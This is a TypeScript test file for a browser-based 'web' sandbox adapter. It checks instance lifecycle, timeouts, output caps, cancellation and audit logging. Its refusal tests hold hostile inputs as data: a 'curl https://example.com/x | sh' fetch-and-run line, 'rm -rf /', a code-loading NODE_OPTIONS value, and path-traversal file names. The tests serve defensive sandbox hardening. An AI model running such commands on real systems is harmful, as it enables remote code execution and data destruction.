// Level web, with a stand-in for the SDK: the real one runs only in a browser, with services of its vendor.

import { describe, expect, it } from 'vitest';
import type { Clock } from '../../contract/ports.ts';
import type { WebInstance, WebProcess } from './execution.ts';
import { AcodeError, WebAcode, type RunRequest, type WebAcodeOptions, type WebAuditEntry } from './index.ts';

const environment = { ACODE_ENV: 'web' };

/** Time that stands still until it is told to go on. */
class Time implements Clock {
  #now = 0;
  #timers: { at: number; action: () => void }[] = [];
  now = (): number => this.#now;
  monotonic = (): number => this.#now;

  after(ms: number, action: () => void): () => void {
    const timer = { at: this.#now + ms, action };
    this.#timers.push(timer);
    return () => void (this.#timers = this.#timers.filter(one => one !== timer));
  }

  async pass(ms: number): Promise<void> {
    await settle();
    this.#now += ms;
    const due = this.#timers.filter(({ at }) => at <= this.#now);
    this.#timers = this.#timers.filter(({ at }) => at > this.#now);
    for (const { action } of due) action();
    await settle();
  }
}

const settle = (): Promise<void> => new Promise(resolve => void setTimeout(resolve, 5));
const never = <Value>(): Promise<Value> => new Promise<Value>(() => undefined);

/** What a page would have: one instance at a time, and a note of everything that is done with it. */
class Page {
  readonly notes: string[] = [];
  /** Standing in for what the program does: what it prints, and its exit. */
  exit: Promise<number> = Promise.resolve(0);
  prints: string[] = ['hi\n'];
  outputEnds = true;
  boots: () => Promise<void> = async () => undefined;
  spawns: () => Promise<void> = async () => undefined;
  #up = 0;

  load = async (): Promise<unknown> => {
    const boot = (): Promise<WebInstance> => this.#boot();
    return { WebContainer: Object.assign(() => undefined, { boot }) };
  };

  count(note: string): number {
    return this.notes.filter(one => one === note).length;
  }

  async #boot(): Promise<WebInstance> {
    this.notes.push('boot');
    await this.boots();
    if (this.#up > 0) throw new Error('Only a single instance can be booted');
    this.#up += 1;
    return {
      mount: async tree => void this.notes.push(`mount ${JSON.stringify(tree)}`),
      spawn: async (program, words, options) => {
        this.notes.push(`spawn ${[program, ...words].join(' ')} ${JSON.stringify(options)}`);
        await this.spawns();
        return this.#process();
      },
      teardown: () => {
        this.#up -= 1;
        this.notes.push('teardown');
      },
    };
  }

  #process(): WebProcess {
    const left = [...this.prints];
    const read = async (): Promise<{ done: boolean; value?: string | undefined }> => {
      const value = left.shift();
      if (value === undefined && !this.outputEnds) return never();
      return { done: value === undefined, value };
    };
    return { exit: this.exit, output: { getReader: () => ({ read }) }, kill: () => void this.notes.push('kill') };
  }
}

async function open(page: Page, options: Partial<WebAcodeOptions> = {}): Promise<WebAcode> {
  return WebAcode.open({ network: 'open', environment, load: page.load, ...options });
}

async function refusal(work: Promise<unknown>): Promise<AcodeError> {
  const error: unknown = await work.then(
    () => null,
    (caught: unknown) => caught,
  );
  if (!(error instanceof AcodeError)) throw new Error(`no refusal, but ${String(error)}`);
  return error;
}

describe('a web environment', () => {
  it.each([
    [{ ACODE_ENV: 'web' }, true],
    [{ DEVS_ENV: 'web' }, true],
    [{ uiKind: 2 }, true],
    [{ ACODE_ENV: 'node', DEVS_ENV: 'web' }, true],
    [{ ACODE_ENV: 'web', uiKind: 1 }, true],
    [{}, false],
    [{ ACODE_ENV: 'WEB' }, false],
    [{ ACODE_ENV: '' }, false],
    [{ DEVS_ENV: '1' }, false],
    [{ uiKind: 1 }, false],
    [{ ACODE_ENV: 'node', DEVS_ENV: 'node', uiKind: 1 }, false],
  ])('is %j: %s', async (given, isOne) => {
    const page = new Page();
    const opened = open(page, { environment: given });
    if (isOne) {
      await using acode = await opened;
      expect((await acode.run(['true'])).level).toBe('web');
      return;
    }
    const error = await refusal(opened);
    expect(error).toMatchObject({ code: 'ACODE-SBX-012', message: expect.stringContaining('fail-closed') });
    expect(error.hint).toContain('no web environment');
  });

  it('is told by the variables of the process where nobody says', async () => {
    const page = new Page();
    expect((await refusal(WebAcode.open({ network: 'open', load: page.load }))).code).toBe('ACODE-SBX-012');
    process.env['ACODE_ENV'] = 'web';
    try {
      await using acode = await WebAcode.open({ network: 'open', load: page.load });
      expect((await acode.run(['true'])).exitCode).toBe(0);
    } finally {
      delete process.env['ACODE_ENV'];
    }
  });
});

describe('a page', () => {
  it('must say that the network is open', async () => {
    for (const network of ['none', undefined]) {
      const error = await refusal(open(new Page(), { network } as object));
      expect(error).toMatchObject({
        code: 'ACODE-SBX-005',
        message: expect.stringContaining('always has the network'),
      });
      expect(error.hint).toContain("network: 'open'");
    }
  });

  it.each(['airgapped', 'something else'])('is refused in mode %s', async mode => {
    const error = await refusal(open(new Page(), { mode } as object));
    expect(error).toMatchObject({ code: 'ACODE-SBX-012', message: expect.stringContaining('fail-closed') });
  });

  it('is refused without the package, and with another one in its place', async () => {
    const missing = await refusal(open(new Page(), { load: async () => Promise.reject(new Error('no such module')) }));
    expect(missing).toMatchObject({ code: 'ACODE-SBX-012', hint: expect.stringContaining('npm install') });
    const other = await refusal(open(new Page(), { load: async () => ({ WebContainer: {} }) }));
    expect(other).toMatchObject({ code: 'ACODE-SBX-012', message: expect.stringContaining('another version') });
    // The real import: the package is not a dependency of this repository.
    expect((await refusal(WebAcode.open({ network: 'open', environment }))).code).toBe('ACODE-SBX-012');
  });

  it('does not wait for a package that never loads', async () => {
    const clock = new Time();
    const opening = refusal(open(new Page(), { clock, load: never }));
    await clock.pass(30_000);
    expect((await opening).code).toBe('ACODE-SBX-012');
  });
});

describe('a run', () => {
  it('has an instance of its own: booted, filled, used, torn down', async () => {
    const page = new Page();
    await using acode = await open(page, { files: { 'src/a.mjs': 'a', 'b.txt': 'b' } });
    const request = { env: { A: '1' }, cwd: 'src', policy: { timeoutMs: 1000 } };
    const result = await acode.run(['node', 'a.mjs'], request);
    const life = [
      'boot',
      'mount {"src":{"directory":{"a.mjs":{"file":{"contents":"a"}}}},"b.txt":{"file":{"contents":"b"}}}',
      'spawn node a.mjs {"cwd":"src","env":{"ACODE_SANDBOX":"1","A":"1"}}',
      'teardown',
    ];
    await expect.poll(() => page.notes).toEqual(life);
    expect(result).toMatchObject({
      exitCode: 0,
      stdout: 'hi\n',
      stderr: '',
      level: 'web',
      timedOut: false,
      denials: [],
    });
    expect(result).toMatchObject({
      dropped: { stdout: 0, stderr: 0 },
      oomKilled: false,
      warm: false,
      riskyChanges: [],
      changed: { executable: 0, hidden: 0, configuration: 0, source: 0, other: 0 },
      scan: 'complete',
    });
    expect(result.sandboxId).toMatch(/^[0-9a-f-]{36}$/);
    await acode.run('echo a | wc', {});
    await expect.poll(() => page.count('boot') + page.count('teardown')).toBe(4);
    expect(page.notes.at(-2)).toBe('spawn jsh -c echo a | wc {"cwd":".","env":{"ACODE_SANDBOX":"1"}}');
  });

  it('keeps the exit status of the command, and does not wait for a stream that never ends', async () => {
    const page = new Page();
    page.exit = Promise.resolve(7);
    page.outputEnds = false;
    const clock = new Time();
    await using acode = await open(page, { clock });
    const running = acode.run(['false']);
    await clock.pass(1000);
    expect(await running).toMatchObject({ exitCode: 7, stdout: 'hi\n' });
  });

  it('waits for the one before it, and says how long', async () => {
    const page = new Page();
    let end: (code: number) => void = () => undefined;
    page.exit = new Promise(resolve => void (end = resolve));
    const clock = new Time();
    await using acode = await open(page, { clock });
    const first = acode.run(['one']);
    const second = acode.run(['two']);
    await clock.pass(400);
    expect([page.count('boot'), page.count('teardown')]).toEqual([1, 0]);
    end(0);
    expect((await first).timings.queueMs).toBe(0);
    expect((await second).timings).toMatchObject({ queueMs: 400 });
    await expect
      .poll(() => page.notes.filter(note => /^(?:boot|teardown)$/.test(note)))
      .toEqual(['boot', 'teardown', 'boot', 'teardown']);
  });

  it('ends at its time limit, also where the command does not obey', async () => {
    for (const obeys of [true, false]) {
      const page = new Page();
      let end: (code: number) => void = () => undefined;
      page.exit = new Promise(resolve => void (end = resolve));
      const clock = new Time();
      await using acode = await open(page, { clock });
      const running = acode.run(['sleep', '9'], { policy: { timeoutMs: 1000 } });
      await clock.pass(999);
      expect(page.count('kill')).toBe(0);
      await clock.pass(1);
      if (obeys) end(137);
      else await clock.pass(2000);
      expect(await running).toMatchObject({ exitCode: null, timedOut: true, limitExceeded: 'time', stdout: 'hi\n' });
      await expect.poll(() => [page.count('kill'), page.count('teardown')]).toEqual([1, 1]);
    }
  });

  it('keeps no more output than it may, and counts the rest', async () => {
    const page = new Page();
    page.prints = ['12345', '67é', 'more'];
    const seen: string[] = [];
    await using acode = await open(page);
    const onStdout = (chunk: Uint8Array): void => void seen.push(new TextDecoder().decode(chunk));
    const cut = await acode.run(['x'], { policy: { limits: { outputBytes: 8 } }, onStdout });
    expect(cut).toMatchObject({ stdout: '1234567', dropped: { stdout: 5, stderr: 0 }, limitExceeded: 'output' });
    expect(seen.join('').slice(0, 7)).toBe('1234567');
    const whole = await acode.run(['x']);
    expect(whole).toMatchObject({ stdout: '1234567émore', dropped: { stdout: 0 } });
    expect(whole.limitExceeded).toBeUndefined();
  });

  it('is cancelled while it runs, with what it had printed', async () => {
    const page = new Page();
    page.exit = never();
    await using acode = await open(page);
    const stop = new AbortController();
    const running = refusal(acode.run(['sleep', '9'], { signal: stop.signal }));
    await settle();
    stop.abort();
    const error = await running;
    expect(error).toMatchObject({ code: 'ACODE-SBX-014', context: { result: { stdout: 'hi\n', level: 'web' } } });
    await expect.poll(() => [page.count('kill'), page.count('teardown')]).toEqual([1, 1]);
  });

  it('is cancelled while it boots, and the instance that comes late is torn down, once', async () => {
    const page = new Page();
    let up: () => void = () => undefined;
    page.boots = () => new Promise(resolve => void (up = resolve));
    await using acode = await open(page);
    const stop = new AbortController();
    const running = refusal(acode.run(['x'], { signal: stop.signal }));
    await settle();
    stop.abort();
    expect(await running).toMatchObject({ code: 'ACODE-SBX-014', context: {} });
    const next = acode.run(['next']);
    await settle();
    // The next one does not begin beside it.
    expect([page.count('boot'), page.count('teardown')]).toEqual([1, 0]);
    page.boots = async () => undefined;
    up();
    expect((await next).exitCode).toBe(0);
    await expect.poll(() => [page.count('boot'), page.count('teardown')]).toEqual([2, 2]);
    expect(page.notes.some(note => note.startsWith('spawn x'))).toBe(false);
  });

  it('is cancelled before it begins and while it waits, and nothing is booted for it', async () => {
    const page = new Page();
    page.exit = never();
    const acode = await open(page);
    expect((await refusal(acode.run(['x'], { signal: AbortSignal.abort() }))).code).toBe('ACODE-SBX-014');
    expect(page.notes).toEqual([]);
    const first = refusal(acode.run(['one']));
    const stop = new AbortController();
    const second = refusal(acode.run(['two'], { signal: stop.signal }));
    await settle();
    stop.abort();
    expect((await second).code).toBe('ACODE-SBX-014');
    await acode.close();
    expect((await first).code).toBe('ACODE-SBX-014');
    expect([page.count('boot'), page.count('teardown')]).toEqual([1, 1]);
    expect((await refusal(acode.run(['three']))).code).toBe('ACODE-SBX-019');
  });

  it('is cancelled while its record is written, and while its program starts', async () => {
    const page = new Page();
    const kinds: string[] = [];
    let stop = new AbortController();
    const record = async (entry: WebAuditEntry): Promise<null> => {
      kinds.push(entry.kind === 'outcome' ? `outcome ${entry.errorCode}` : entry.kind);
      stop.abort();
      return null;
    };
    await using recorded = await open(page, { record });
    expect((await refusal(recorded.run(['x'], { signal: stop.signal }))).code).toBe('ACODE-SBX-014');
    expect(page.notes).toEqual([]);
    expect(kinds).toEqual(['intent', 'outcome ACODE-SBX-014']);
    stop = new AbortController();
    page.spawns = async () => {
      stop.abort();
      return never();
    };
    await using acode = await open(page);
    expect((await refusal(acode.run(['x'], { signal: stop.signal }))).code).toBe('ACODE-SBX-014');
    await expect.poll(() => [page.count('boot'), page.count('teardown')]).toEqual([1, 1]);
  });

  it('is refused where the instance cannot be booted, and the next one is not', async () => {
    const page = new Page();
    page.boots = async () => Promise.reject(new Error('SharedArrayBuffer is missing'));
    await using acode = await open(page);
    const error = await refusal(acode.run(['x']));
    expect(error).toMatchObject({ code: 'ACODE-SBX-001', message: expect.stringContaining('SharedArrayBuffer') });
    expect(error.hint).toContain('cross-origin isolated');
    expect(page.notes).toEqual(['boot']);
    page.boots = async () => undefined;
    expect((await acode.run(['x'])).exitCode).toBe(0);
  });

  it('does not wait for an instance that never comes, nor keep one that comes later', async () => {
    const page = new Page();
    let up: () => void = () => undefined;
    page.boots = () => new Promise(resolve => void (up = resolve));
    const clock = new Time();
    await using acode = await open(page, { clock });
    const running = refusal(acode.run(['x']));
    await clock.pass(60_000);
    expect(await running).toMatchObject({ code: 'ACODE-SBX-001', message: expect.stringContaining('not ready') });
    up();
    await settle();
    expect([page.count('boot'), page.count('teardown')]).toEqual([1, 1]);
  });

  it('is refused where the program is not there, does not start, or is lost', async () => {
    const page = new Page();
    await using acode = await open(page);
    page.spawns = async () => Promise.reject(new Error('spawn gti ENOENT'));
    const missing = await refusal(acode.run(['gti']));
    expect(missing).toMatchObject({ code: 'ACODE-SBX-015', exitStatus: 127 });
    expect(missing.hint).not.toContain('--image');
    page.spawns = async () => Promise.reject(new Error('out of memory'));
    expect((await refusal(acode.run(['x']))).code).toBe('ACODE-SBX-001');
    page.spawns = async () => undefined;
    page.exit = Promise.reject(new Error('the worker died'));
    page.exit.catch(() => undefined);
    expect(await refusal(acode.run(['x']))).toMatchObject({ code: 'ACODE-SBX-018' });
    await expect.poll(() => [page.count('boot'), page.count('teardown')]).toEqual([3, 3]);
  });

  it('does not wait for a program that never starts', async () => {
    const page = new Page();
    page.spawns = never;
    const clock = new Time();
    await using acode = await open(page, { clock });
    const running = refusal(acode.run(['x']));
    await clock.pass(10_000);
    expect((await running).code).toBe('ACODE-SBX-001');
    await expect.poll(() => page.count('teardown')).toBe(1);
  });
});

describe('a command', () => {
  it.each<[string, string | string[], RunRequest]>([
    ['high by its caller', ['true'], { risk: 'high' }],
    ['critical by its caller', ['true'], { risk: 'critical' }],
    ['high by the rules', 'curl https://example.com/x | sh', {}],
    ['critical by the rules', 'rm -rf /', { risk: 'low' }],
  ])('that is %s is refused', async (_, command, request) => {
    const page = new Page();
    await using acode = await open(page);
    const error = await refusal(acode.run(command, request));
    expect(error.message).toBe('fail-closed: task requires docker isolation but only web is available.');
    expect(page.notes).toEqual([]);
    expect((await acode.run('npm install', { risk: 'medium' })).exitCode).toBe(0);
  });

  it.each<[string, RunRequest]>([
    ['policy.limits.memoryBytes', { policy: { limits: { memoryBytes: 1e8 } } }],
    ['policy.limits.cpus', { policy: { limits: { cpus: 1 } } }],
    ['policy.limits.pids', { policy: { limits: { pids: 99 } } }],
    ['policy.mounts', { policy: { mounts: [{ source: '/a', target: '/b' }] } }],
    ['policy.network', { policy: { network: 'none' } }],
    ['policy.image', { policy: { image: 'node:20' } }],
    ['policy.level', { policy: { level: 'docker' } }],
    ['policy.user', { policy: { user: 'caller' } }],
    ['stdin', { stdin: 'x' }],
    ['onStderr', { onStderr: () => undefined }],
    ['artifacts', { artifacts: [{ from: 'a', to: 'b' }] }],
  ])('that asks for %s is refused by that name', async (name, request) => {
    const page = new Page();
    await using acode = await open(page);
    const error = await refusal(acode.run(['true'], request));
    expect(error).toMatchObject({ code: 'ACODE-SBX-016', context: { what: `${name} at level web` } });
    expect(page.notes).toEqual([]);
  });

  it.each<[string, unknown, object]>([
    ['no words', [], {}],
    ['nothing', '', {}],
    ['an unknown key', ['true'], { polcy: {} }],
    ['an unknown key of the policy', ['true'], { policy: { memory: 1 } }],
    ['a directory outside', ['true'], { cwd: '../x' }],
    ['more time than there is', ['true'], { policy: { timeoutMs: 1e9 } }],
    ['more output than there is', ['true'], { policy: { limits: { outputBytes: 1e9 } } }],
  ])('with %s is invalid', async (_, command, request) => {
    await using acode = await open(new Page());
    expect((await refusal(acode.run(command as string[], request))).code).toBe('ACODE-SBX-017');
  });

  it('gets no variable that would load code', async () => {
    await using acode = await open(new Page());
    expect((await refusal(acode.run(['x'], { env: { NODE_OPTIONS: '-r x' } }))).code).toBe('ACODE-SBX-010');
  });

  it.each(['/a', '../a', 'a//b', 'a/./b', '__proto__/x', 'a/__proto__'])('gets no file at %s', async path => {
    expect((await refusal(open(new Page(), { files: { [path]: '' } }))).code).toBe('ACODE-SBX-017');
  });

  it('gets no file below a file', async () => {
    for (const files of [
      { a: '', 'a/b': '' },
      { 'a/b': '', a: '' },
    ])
      expect((await refusal(open(new Page(), { files }))).code).toBe('ACODE-SBX-017');
  });
});

describe('a record', () => {
  it('is written before the command, and another one after it', async () => {
    const page = new Page();
    const entries: WebAuditEntry[] = [];
    const record = async (entry: WebAuditEntry): Promise<{ seq: number; hash: string }> => {
      page.notes.push(entry.kind);
      return { seq: entries.push(entry), hash: '' };
    };
    await using acode = await open(page, { record });
    const result = await acode.run(['x', '--token', 'secret-value'], { env: { A: 'value' }, taskId: 't' });
    await expect
      .poll(() => page.notes.map(note => note.split(' ')[0]))
      .toEqual(['intent', 'boot', 'mount', 'spawn', 'outcome', 'teardown']);
    expect(result.auditSequence).toBe(1);
    const { correlationId } = result;
    expect(entries).toMatchObject([
      { kind: 'intent', sandbox_level: 'web', network: 'open', env: ['A'], risk: 'low', taskId: 't', correlationId },
      { kind: 'outcome', intent: 1, exitCode: 0, correlationId },
    ]);
    expect(JSON.stringify(entries)).not.toMatch(/secret-value|"value"/);
    page.boots = async () => Promise.reject(new Error('no'));
    await refusal(acode.run(['y']));
    await expect.poll(() => entries.at(-1)).toMatchObject({ kind: 'outcome', errorCode: 'ACODE-SBX-001' });
  });

  it('that is not written refuses the run', async () => {
    const page = new Page();
    const full = await open(page, { record: async () => Promise.reject(new Error('the disk is full')) });
    const error = await refusal(full.run(['x']));
    expect(error).toMatchObject({ code: 'ACODE-AUD-001', message: expect.stringMatching(/fail-closed.*disk is full/) });
    const clock = new Time();
    const hung = await open(page, { record: never, clock });
    const running = refusal(hung.run(['x']));
    await clock.pass(5000);
    expect((await running).code).toBe('ACODE-AUD-001');
    expect(page.notes).toEqual([]);
  });
});
